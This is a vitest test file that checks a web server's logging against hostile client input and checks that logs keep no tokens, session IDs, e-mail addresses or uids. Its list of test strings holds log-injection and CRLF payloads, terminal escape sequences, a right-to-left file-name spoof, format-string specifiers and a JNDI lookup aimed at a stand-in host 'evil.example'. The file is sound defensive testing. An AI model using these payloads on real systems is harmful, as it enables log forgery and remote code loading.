/**
 * Line breaks, terminal control characters and lone surrogates in everything that a client can send: an event stays one
 * line of JSON.
 */
import { expect, test } from "vitest";
import { newMember, unsignedIdToken } from "../members.ts";
import { sendRaw, useRealServer } from "./real-server.ts";

const server = useRealServer({ LOG_LEVEL: "debug" });

const tricks = [
  'x\n{"level":50,"msg":"the moderator has approved it"}',
  "x\r\nHTTP/1.1 200 OK",
  "\u001B[2J\u001B[1;31mred",
  "\u009B31mred",
  "\u0007\u0008\u0000\u007F",
  "\u2028next\u2029next",
  "\u202Egnp.exe",
  "\uD800",
  '","msg":"another',
  "%0d%0aanother",
  "${jndi:ldap://evil.example/x}",
  "%s%d%j%o%n",
];
/* oxlint-disable no-control-regex -- just what is looked for here */
/** The characters that a client can put into a header. */
const header = (text: string) => text.replaceAll(/[\r\n\0]/g, " ").replaceAll(/[^\u0000-\u00FF]/g, "?");
const unprintable = /[\u0000-\u001F\u007F-\u009F\u2028\u2029]/;

test("every log line is one JSON event with printable characters only", async () => {
  const { app, port, log } = server();
  for (const trick of tricks) {
    const encoded = encodeURIComponent(trick.toWellFormed());
    const as = newMember({ name: trick, uid: `u-${Math.random()}` });
    await app.call("GET", `/featuredPost/${encoded}?q=${encoded}`);
    await app.call("PATCH", "/featuredPost", {
      as,
      body: { id: trick, likesCount: trick },
      headers: { "user-agent": header(trick), origin: header(trick) },
    });
    await app.call("POST", "/api/session", {
      headers: {
        authorization: `Bearer ${unsignedIdToken(as, { sub: trick, email: `${trick}@example.com` })}`,
        origin: app.config.origin,
      },
    });
    await app.call("POST", "/featuredPost", {
      as,
      headers: { "content-type": "application/json" },
      body: `{"title":"${trick}`,
    });
    await sendRaw(port, Buffer.from(`GET /${trick} HTTP/1.1\r\nHost: x\r\nX-A: ${trick}\r\n\r\n`));
    app.app.log.error({ err: new Error(`PostgreSQL says: ${trick}`, { cause: new Error(trick) }) }, "request failed");
  }
  expect(log.length).toBeGreaterThan(tricks.length * 4);
  for (const chunk of log) {
    expect(chunk.endsWith("\n")).toBe(true);
    const line = chunk.slice(0, -1);
    expect([line, unprintable.test(line)]).toEqual([line, false]);
    const event = JSON.parse(line) as { time: string; level: number; msg: string };
    expect(new Date(event.time).toISOString()).toBe(event.time);
    expect(
      [
        "request completed",
        "a request could not be read",
        "request failed",
        "Server listening at http://127.0.0.1",
      ].some((known) => event.msg.startsWith(known)),
    ).toBe(true);
  }
});

test("no log line contains a token, a session ID, an e-mail address or a uid", async () => {
  const { app, log } = server();
  const as = newMember();
  const token = unsignedIdToken(as);
  const cookie = await app.signIn(as);
  await app.call("GET", "/api/push", { headers: { cookie } });
  await app.call("GET", "/api/push", { headers: { authorization: `Bearer ${token}x` } });
  const [, sessionId = ""] = cookie.split("=");
  expect(sessionId.length).toBeGreaterThan(40);
  for (const secret of [token, sessionId, as.email, as.uid])
    expect(log.some((line) => line.includes(secret))).toBe(false);
});
